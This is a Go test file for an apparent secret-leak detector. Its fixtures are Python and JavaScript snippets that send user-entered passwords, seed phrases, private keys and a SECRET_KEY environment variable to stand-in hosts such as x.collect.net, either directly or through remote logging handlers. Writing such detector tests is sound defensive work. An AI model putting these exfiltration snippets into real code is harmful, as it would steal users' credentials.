package chain_test

import (
	"slices"
	"strings"
	"testing"
)

// What somebody types or hands a program is a source where its name says that it is secret.
func TestEntered(t *testing.T) {
	for name, one := range map[string]struct{ file, text, want string }{
		"argparse":            {"a.py", "import argparse, requests\np = argparse.ArgumentParser()\np.add_argument('--password')\na = p.parse_args()\nrequests.post('https://x.collect.net/in', json={'p': a.password})\n", "entered the option password -> send body x.collect.net"},
		"argparse by a call":  {"a.py", "import argparse, json, urllib.request\ndef check(u, w):\n    urllib.request.urlopen(urllib.request.Request('https://x.collect.net/in', data=json.dumps({'u': u, 'w': w}).encode()))\np = argparse.ArgumentParser()\na = p.parse_args()\ncheck(a.user, a.recovery)\n", "entered the option recovery -> send body x.collect.net"},
		"vars":                {"a.py", "import argparse, requests\na = vars(argparse.ArgumentParser().parse_args())\nrequests.get('https://x.collect.net/in', params={'q': a['api_key']})\n", "entered the option api_key -> send query x.collect.net"},
		"docopt":              {"a.py", "import requests\nfrom docopt import docopt\na = docopt(__doc__)\nrequests.post('https://x.collect.net/in', data=a['--passphrase'])\n", "entered the option --passphrase -> send body x.collect.net"},
		"click":               {"a.py", "import click, requests\n@click.command()\n@click.option('--user')\n@click.option('--app-password', prompt=True)\ndef main(user, app_password):\n    requests.post('https://x.collect.net/in', data=app_password)\n", "entered the option --app-password -> send body x.collect.net"},
		"getpass":             {"a.py", "import getpass, requests\nw = getpass.getpass('Mail: ')\nrequests.post('https://x.collect.net/in', data=w)\n", "entered getpass.getpass -> send body x.collect.net"},
		"input":               {"a.py", "import requests\nw = input('Your seed phrase: ')\nrequests.post('https://x.collect.net/in', data=w)\n", "entered Your seed phrase -> send body x.collect.net"},
		"argv":                {"a.py", "import sys, requests\npassword = sys.argv[2]\nrequests.post('https://x.collect.net/in', data=password)\n", "entered the option password -> send body x.collect.net"},
		"minimist":            {"a.js", "const minimist = require('minimist');\nconst a = minimist(process.argv.slice(2));\nfetch('https://x.collect.net/in', {method: 'POST', body: a.passphrase});\n", "entered the option passphrase -> send body x.collect.net"},
		"taken apart":         {"a.js", "const { program } = require('commander');\nconst { privateKey } = program.opts();\nfetch('https://x.collect.net/in', {method: 'POST', body: JSON.stringify({privateKey})});\n", "entered the option privateKey -> send body x.collect.net"},
		"in a header":         {"a.py", "import argparse, requests\na = argparse.ArgumentParser().parse_args()\nrequests.get('https://x.collect.net/in', headers={'Authorization': a.token})\n", "entered the option token -> send header x.collect.net"},
		"no secret":           {"a.py", "import argparse, requests\na = argparse.ArgumentParser().parse_args()\nrequests.post('https://x.collect.net/in', json={'q': a.query, 'page_token': a.page_token})\n", ""},
		"a number of them":    {"a.py", "import argparse, requests\na = argparse.ArgumentParser().parse_args()\nrequests.post('https://x.collect.net/in', json={'max': a.max_tokens, 'n': a.password_length})\n", ""},
		"a question":          {"a.py", "import requests\nw = input('Your name: ')\nrequests.post('https://x.collect.net/in', data=w)\n", ""},
		"it stays":            {"a.py", "import getpass, hashlib, requests\nw = getpass.getpass()\nprint(len(w))\nrequests.get('https://x.collect.net/in')\n", ""},
		"another option":      {"a.py", "import click, requests\n@click.command()\n@click.option('--password')\n@click.option('--note')\ndef main(password, note):\n    requests.post('https://x.collect.net/in', data=note)\n", ""},
		"a record by a field": {"a.py", "import requests\nform = {'password': 'x'}\nrequests.post('https://x.collect.net/in', data=form['password'])\n", ""},
	} {
		got := slices.DeleteFunc(follow(t, "-- "+one.file+" --\n"+one.text), func(s string) bool { return !strings.HasPrefix(s, "entered ") })
		if strings.TrimSpace(strings.Join(got, "\n")) != one.want {
			t.Errorf("%s: got %q, want %q", name, got, one.want)
		}
	}
}

// What is logged goes where the handlers of the file send it.
func TestLogged(t *testing.T) {
	const secret = "os.environ.get('SECRET_KEY')"
	for name, one := range map[string]struct{ file, text, want string }{
		"syslog":       {"a.py", "import logging, logging.handlers, os\ndef configure():\n    root = logging.getLogger()\n    h = logging.handlers.SysLogHandler(('192.0.2.77', 514))\n    root.handlers = [h]\n    logging.info('ready %s', " + secret + ")\n", "variable SECRET_KEY -> send socket 192.0.2.77"},
		"later":        {"a.py", "import logging, os\nfrom logging.handlers import HTTPHandler\nlog = logging.getLogger(__name__)\nlog.warning('ready %s', " + secret + ")\nlog.addHandler(HTTPHandler('in.collect.net:8080', '/x'))\n", "variable SECRET_KEY -> send socket in.collect.net"},
		"by settings":  {"a.py", "import logging.config, logging, os\nlogging.config.dictConfig({'version': 1, 'handlers': {'far': {'class': 'logging.handlers.SocketHandler', 'host': 'in.collect.net', 'port': 9020}}})\nlogging.error(" + secret + ")\n", "variable SECRET_KEY -> send socket in.collect.net"},
		"loguru":       {"a.py", "from loguru import logger\nfrom logging.handlers import DatagramHandler\nimport os\nlogger.add(DatagramHandler('in.collect.net', 9))\nlogger.info(" + secret + ")\n", "variable SECRET_KEY -> send socket in.collect.net"},
		"winston":      {"a.js", "const winston = require('winston');\nconst log = winston.createLogger({transports: [new winston.transports.Http({host: 'in.collect.net'})]});\nlog.info('ready ' + process.env.SECRET_KEY);\n", "variable SECRET_KEY -> send socket in.collect.net"},
		"pino":         {"a.js", "const pino = require('pino');\nconst log = pino(pino.transport({target: 'x', options: {url: 'https://in.collect.net/x'}}));\nlog.error(process.env.SECRET_KEY);\n", "variable SECRET_KEY -> send socket in.collect.net"},
		"to a file":    {"a.py", "import logging, os\nlogging.getLogger().addHandler(logging.FileHandler('a.log'))\nlogging.info(" + secret + ")\n", ""},
		"the socket":   {"a.py", "import logging, logging.handlers, os\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\nlogging.info(" + secret + ")\n", ""},
		"no secret":    {"a.py", "import logging, logging.handlers, os\nh = logging.handlers.SysLogHandler(('192.0.2.77', 514))\nlogging.info(os.environ.get('LOG_LEVEL'))\n", ""},
		"from outside": {"a.py", "import logging, logging.handlers, os\nh = logging.handlers.SysLogHandler((os.environ['LOG_HOST'], 514))\nlogging.info(" + secret + ")\n", ""},
		"another file": {"a.py", "import logging, os\nlogging.info(" + secret + ")\n-- b.py --\nimport logging.handlers\nh = logging.handlers.SysLogHandler(('192.0.2.77', 514))\n", ""},
		"a console":    {"a.js", "const winston = require('winston');\nconst log = winston.createLogger({transports: [new winston.transports.Console()]});\nlog.info(process.env.SECRET_KEY);\n", ""},
	} {
		if got := strings.TrimSpace(strings.Join(follow(t, "-- "+one.file+" --\n"+one.text), "\n")); got != one.want {
			t.Errorf("%s: got %q, want %q", name, got, one.want)
		}
	}
}
